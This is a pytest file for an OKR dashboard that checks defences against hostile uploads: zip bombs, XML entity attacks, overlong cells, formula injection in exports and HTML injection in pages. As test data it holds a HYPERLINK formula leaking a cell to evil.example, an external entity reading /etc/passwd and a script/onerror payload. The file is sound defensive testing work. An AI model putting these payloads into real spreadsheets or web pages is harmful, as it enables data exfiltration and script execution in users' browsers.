"""Hostile input: files made to exhaust the server or to run code on a reader's machine, and user
text meant to run in a browser, are refused or made harmless — each protection checked on its own."""

from __future__ import annotations

import ast
import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from conftest import DEMO_AS_OF, PROJECT_ROOT, xlsx_bytes
from loaders import read
from loaders.ingest import check_and_store
from loaders.parse import parse_grids
from loaders.problems import FileRejected
from store.database import Store, UploadedFile

CORPUS = PROJECT_ROOT / "tests" / "data" / "upload"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(2)>"


def refusal(data: bytes, name: str = "upload.xlsx") -> str:
    with pytest.raises(FileRejected) as raised:
        read.read_grids(name, data)
    return str(raised.value)


# --- size cap, before anything is read ------------------------------------------------------------


@pytest.mark.parametrize("start", [b"kr_id,date,value\n", read.ZIP_MAGIC])
def test_a_file_over_the_cap_is_refused_before_it_is_read(monkeypatch, start):
    def must_not_run(*args):
        raise AssertionError("the file was read")

    for reader in ("_read_csv", "_read_xlsx", "_check_zip", "decode_text"):
        monkeypatch.setattr(read, reader, must_not_run)
    oversized = start + b"\0" * (read.MAX_FILE_BYTES + 1 - len(start))
    assert refusal(oversized) == (
        "the file is 21.0 MB; the limit is 20 MB (split it, or upload the sheets you changed)"
    )


def test_the_upload_widgets_carry_the_same_cap():
    for page in ("pages/upload.py", "pages/swot.py"):
        assert "max_upload_size=MAX_FILE_BYTES // 2**20" in (PROJECT_ROOT / page).read_text()


# --- zip bombs, before any XML is parsed ----------------------------------------------------------


def test_a_zip_bomb_is_refused_by_its_compression_ratio_before_parsing(monkeypatch):
    monkeypatch.setattr(
        "python_calamine.CalamineWorkbook.from_filelike", lambda *a: (_ for _ in ()).throw(AssertionError("parsed"))
    )
    bomb = (CORPUS / "zip_bomb.xlsx").read_bytes()
    entries = zipfile.ZipFile(io.BytesIO(bomb)).infolist()
    assert sum(e.file_size for e in entries) / sum(e.compress_size for e in entries) > read.MAX_COMPRESSION_RATIO
    assert len(bomb) < 1_000_000
    assert "expands to far more data than it holds (a zip bomb" in refusal(bomb)


def test_a_workbook_expanding_beyond_the_total_cap_is_refused_whatever_its_ratio(monkeypatch):
    workbook = xlsx_bytes({"CheckIns": [["kr_id", "date", "value"]] + [[f"K{i}", "2027-05-31", i] for i in range(500)]})
    entries = zipfile.ZipFile(io.BytesIO(workbook)).infolist()
    total = sum(e.file_size for e in entries)
    assert total / sum(e.compress_size for e in entries) < read.MAX_COMPRESSION_RATIO
    assert read.read_grids("ok.xlsx", workbook)  # under the real cap it reads
    monkeypatch.setattr(read, "MAX_UNCOMPRESSED_FACTOR", (total - 1) / read.MAX_FILE_BYTES)
    assert "expands to far more data than it holds" in refusal(workbook)


# --- XML: entity expansion and external entities -------------------------------------------------


def test_defusedxml_is_what_openpyxl_parses_with():
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML is True
    from defusedxml import EntitiesForbidden

    with pytest.raises(ValueError) as raised:
        openpyxl.load_workbook(CORPUS / "billion_laughs.xlsx")
    assert isinstance(raised.value.__cause__, EntitiesForbidden)


def with_part(workbook: bytes, part: str, transform) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(workbook))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            content = source.read(entry.filename)
            target.writestr(entry.filename, transform(content) if entry.filename == part else content)
    return buffer.getvalue()


PLAIN = xlsx_bytes({"CheckIns": [["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", 1]]})
XML_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


@pytest.mark.parametrize(
    "part, prolog",
    [
        # Billion laughs in the shared strings: refused before calamine (or anything) expands it.
        ("xl/sharedStrings.xml", None),
        # An external entity reading a server file into a cell.
        ("xl/worksheets/sheet1.xml", b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
        # A declaration pushed past the first 64 KB of the part by a long comment.
        ("xl/workbook.xml", b"<!--" + b"x" * (70 * 1024) + b'--><!DOCTYPE workbook [<!ENTITY a "b">]>'),
    ],
)
def test_a_workbook_declaring_xml_entities_is_refused_before_parsing(monkeypatch, part, prolog):
    monkeypatch.setattr(
        "python_calamine.CalamineWorkbook.from_filelike", lambda *a: (_ for _ in ()).throw(AssertionError("parsed"))
    )
    data = (
        (CORPUS / "billion_laughs.xlsx").read_bytes()
        if prolog is None
        else with_part(PLAIN, part, lambda xml: xml.replace(XML_HEAD, XML_HEAD + prolog, 1))
    )
    assert refusal(data) == (
        f"the workbook's {part} declares XML entities, which Excel never writes (a file made to exhaust the "
        "server's memory); open it in Excel, save it as a new workbook and upload that"
    )


def test_an_ordinary_workbook_passes_the_xml_check():
    assert read.read_grids("plain.xlsx", PLAIN)[0].rows[1] == ["SAL-O2-KR1", "2027-05-31", 1.0]


# --- cells: longest, too long, NaN/inf, N/A -------------------------------------------------------


def check_in_problems(rows: list[list[object]], file_name: str = "c.csv") -> tuple[list[str], pd.DataFrame]:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["kr_id", "date", "value", "confidence", "comment"], *rows])
    data = buffer.getvalue().encode()
    parsed = parse_grids(file_name, read.read_grids(file_name, data))
    return [f"row {p.row}, {p.column}: {p.problem}" for p in parsed.problems], parsed.tables["check_ins"].frame


@pytest.mark.parametrize(
    "length, problem",
    [
        (32_767, None),
        (
            32_768,
            "row 2, comment: the cell holds 32,768 characters; a spreadsheet cell holds at most 32,767 "
            "(Excel's limit): shorten it",
        ),
        (
            500_000,
            "row 2, comment: the cell holds 500,000 characters; a spreadsheet cell holds at most 32,767 "
            "(Excel's limit): shorten it",
        ),
    ],
)
def test_a_cell_up_to_excels_limit_is_kept_whole_and_a_longer_one_is_refused(length, problem):
    problems, frame = check_in_problems([["SAL-O2-KR1", "2027-05-31", "1", "5", "é" * length]])
    assert problems == ([] if problem is None else [problem])
    assert frame["comment"].iloc[0] == ("é" * length if problem is None else None)


def test_an_xlsx_cell_longer_than_excel_allows_is_refused_with_its_place():
    # Written into the XML directly: openpyxl and xlsxwriter both cut text at the limit, other tools may not.
    data = with_part(
        xlsx_bytes({"CheckIns": [["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", 1, "LONG"]]}),
        "xl/sharedStrings.xml",
        lambda xml: xml.replace(b"<t>LONG</t>", b"<t>" + b"n" * 40_000 + b"</t>"),
    )
    parsed = parse_grids("long.xlsx", read.read_grids("long.xlsx", data))
    assert [(p.sheet, p.row, p.column, p.problem) for p in parsed.problems] == [
        (
            "CheckIns",
            2,
            "comment",
            "the cell holds 40,000 characters; a spreadsheet cell holds at most 32,767 (Excel's limit): shorten it",
        )
    ]


@pytest.mark.parametrize(
    "typed, problem",
    [
        ("inf", 'row 2, value: "inf" is not a finite number'),
        ("-Infinity", 'row 2, value: "-Infinity" is not a finite number'),
        ("1e999", 'row 2, value: "1e999" is not a finite number'),
        ("NaN", None),
        ("N/A", None),
        ("#N/A", None),
        ("n/a", None),
    ],
)
def test_infinite_numbers_are_refused_and_not_a_number_markers_are_empty(typed, problem):
    problems, frame = check_in_problems([["SAL-O2-KR1", "2027-05-31", typed, "5", "note"]])
    assert problems == ([] if problem is None else [problem])
    assert pd.isna(frame["value"].iloc[0])


def test_a_confidence_of_nan_or_inf_is_handled_like_a_value():
    problems, frame = check_in_problems(
        [["SAL-O2-KR1", "2027-05-31", "1", "inf", ""], ["SAL-O2-KR2", "2027-05-31", "2", "NaN", ""]]
    )
    assert problems == ['row 2, confidence: "inf" is not a finite number']
    assert frame["confidence"].isna().all()


def test_a_csv_holding_a_huge_single_field_is_read_and_reported_not_crashed():
    data = b"kr_id,date,value,comment\nSAL-O2-KR1,2027-05-31,1," + b"x" * (read.MAX_FILE_BYTES - 100) + b"\n"
    parsed = parse_grids("huge.csv", read.read_grids("huge.csv", data))
    assert [p.column for p in parsed.problems] == ["comment"]
    assert f"the cell holds {read.MAX_FILE_BYTES - 100:,} characters" in parsed.problems[0].problem


# --- exports never run what users typed -----------------------------------------------------------


@pytest.fixture
def hostile_tables(writable_demo_db) -> dict[str, pd.DataFrame]:
    """The demo data after a Sales lead uploaded a check-in whose comment is a formula, and one whose
    comment is HTML."""
    rows = [
        ["kr_id", "date", "value", "comment"],
        ["SAL-O2-KR1", "2027-05-31", "512000", FORMULA],
        ["SAL-O2-KR3", "2027-05-31", "24", SCRIPT],
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    store = Store.open(writable_demo_db)
    try:
        result = check_and_store(
            store, [UploadedFile("hostile.csv", buffer.getvalue().encode())], "Lead", team="Sales", as_of=DEMO_AS_OF
        )
        assert result.stored, result.errors
        return store.read_tables()
    finally:
        store.close()


def test_the_csv_and_xlsx_exports_neutralise_a_stored_formula(hostile_tables):
    from analytics.review import review_snapshot
    from loaders.export import KR_EXPORT_COLUMNS, kr_export_table, table_csv, table_xlsx

    rows = kr_export_table(review_snapshot(hostile_tables, DEMO_AS_OF))
    header = [c.header for c in KR_EXPORT_COLUMNS]
    exported = list(csv.DictReader(io.StringIO(table_csv(rows, KR_EXPORT_COLUMNS).decode("utf-8-sig"))))
    by_kr = {row["KR ID"]: row for row in exported}
    assert by_kr["SAL-O2-KR1"]["Last comment"] == "'" + FORMULA
    assert by_kr["SAL-O2-KR3"]["Last comment"] == SCRIPT  # text, harmless in a spreadsheet

    sheet = openpyxl.load_workbook(io.BytesIO(table_xlsx(rows, KR_EXPORT_COLUMNS, "Key results")))["Key results"]
    column = header.index("Last comment") + 1
    cells = {sheet.cell(r, 1).value: sheet.cell(r, column) for r in range(2, sheet.max_row + 1)}
    assert cells["SAL-O2-KR1"].value == "'" + FORMULA and cells["SAL-O2-KR1"].data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_the_html_review_pack_escapes_stored_html_and_formulas(hostile_tables):
    from plotly.offline import get_plotlyjs

    from analytics.meetings import meeting_record
    from analytics.overview import company_overview
    from analytics.review import review_snapshot
    from charts.review_pack import review_pack_html

    snapshot = review_snapshot(hostile_tables, DEMO_AS_OF)
    document = review_pack_html(
        snapshot, company_overview(hostile_tables, snapshot), meeting_record(hostile_tables, DEMO_AS_OF), "All teams"
    ).replace(get_plotlyjs(), "")
    assert SCRIPT not in document and "<script>alert" not in document and "<img src=x" not in document
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;" in document


# --- pages never render user text as HTML ---------------------------------------------------------

STREAMLIT_SOURCES = sorted(
    [PROJECT_ROOT / "app.py", *(PROJECT_ROOT / "pages").glob("*.py"), *(PROJECT_ROOT / "ui").glob("*.py")]
)


# Functions that build HTML from data and escape every piece of it; each is fed hostile text below.
ESCAPING_HTML_BUILDERS = ("attention_html", "kr_list_html")


def fixed_texts(module: ast.Module) -> set[str]:
    """Names a module binds, at its top level, to text made of literals only (a style sheet written
    as an f-string over other such names is fixed text too), including such names it imports from
    another of the app's ui modules."""
    fixed: set[str] = set()
    for statement in module.body:
        if isinstance(statement, ast.ImportFrom) and (statement.module or "").startswith("ui."):
            source = PROJECT_ROOT / (statement.module.replace(".", "/") + ".py")
            there = fixed_texts(ast.parse(source.read_text(), str(source)))
            fixed |= {alias.asname or alias.name for alias in statement.names if alias.name in there}

    def is_fixed(value: ast.expr) -> bool:
        if isinstance(value, ast.Constant):
            return isinstance(value.value, str)
        if isinstance(value, ast.Name):
            return value.id in fixed
        if isinstance(value, ast.FormattedValue):
            return is_fixed(value.value) and value.format_spec is None
        return isinstance(value, ast.JoinedStr) and all(is_fixed(part) for part in value.values)

    for statement in module.body:
        if (
            isinstance(statement, ast.Assign)
            and len(statement.targets) == 1
            and isinstance(statement.targets[0], ast.Name)
            and is_fixed(statement.value)
        ):
            fixed.add(statement.targets[0].id)
    return fixed


def test_no_page_lets_streamlit_render_html_built_from_data():
    """unsafe_allow_html is never on; st.html and components get fixed text only (styling)."""
    offenders = []
    for path in STREAMLIT_SOURCES:
        module = ast.parse(path.read_text(), str(path))
        fixed = fixed_texts(module)
        for node in ast.walk(module):
            if not isinstance(node, ast.Call):
                continue
            where = f"{path.relative_to(PROJECT_ROOT)}:{node.lineno}"
            for keyword in node.keywords:
                if keyword.arg == "unsafe_allow_html" and not (
                    isinstance(keyword.value, ast.Constant) and keyword.value.value is False
                ):
                    offenders.append(f"{where} unsafe_allow_html")
            name = ast.unparse(node.func)
            if name in ("st.html", "components.html", "st.components.v1.html") or name.endswith("components.v1.html"):
                if not all(
                    isinstance(arg, ast.Constant)
                    or isinstance(arg, ast.Name)
                    and arg.id in fixed
                    or isinstance(arg, ast.Call)
                    and ast.unparse(arg.func) in ESCAPING_HTML_BUILDERS
                    for arg in node.args
                ):
                    offenders.append(f"{where} {name} with computed content")
    assert offenders == []
    assert len(STREAMLIT_SOURCES) > 10


def test_text_built_from_data_is_not_taken_for_fixed_text():
    module = ast.parse(
        'KEY = "since"\nCSS = f".st-key-{KEY} p {{font-size: 2rem}}"\n'
        'def draw(title):\n    HTML = f"<h1>{title}</h1>"\n'
        'LABEL = f"{KEY:>10}"\nTITLE = some_title()\nJOINED = CSS + TITLE\n'
    )
    assert fixed_texts(module) == {"KEY", "CSS"}


def test_the_team_page_shows_stored_html_as_text(open_page, hostile_tables, writable_demo_db, monkeypatch):
    at = open_page("pages/team.py", team="Sales", as_of=DEMO_AS_OF.isoformat())
    monkeypatch.setenv("OKR_DB", writable_demo_db)
    at.run()
    assert not at.exception
    # Shown, in a table cell: the grid draws cell values as text.
    assert any((frame.astype(str) == SCRIPT).any().any() for frame in (e.value for e in at.dataframe))
    markdown = [*at.markdown, *at.caption]
    assert markdown and all(not element.proto.allow_html for element in markdown)
    assert not any("<script>" in element.value or "onerror=" in element.value for element in markdown)


def test_the_html_builders_escape_every_piece_of_user_text(hostile_tables):
    from analytics.exceptions import needs_attention, review_lines
    from analytics.review import review_snapshot
    from ui.exceptions import attention_html
    from ui.presenter import kr_list_html

    krs = review_snapshot(hostile_tables, DEMO_AS_OF).krs
    krs = krs.assign(title=SCRIPT, owner=SCRIPT, team=SCRIPT, unit=SCRIPT)
    for document in (attention_html(needs_attention(krs, DEMO_AS_OF)), kr_list_html(review_lines(krs, DEMO_AS_OF))):
        assert "<script>" not in document and "<img src=x" not in document
        assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in document
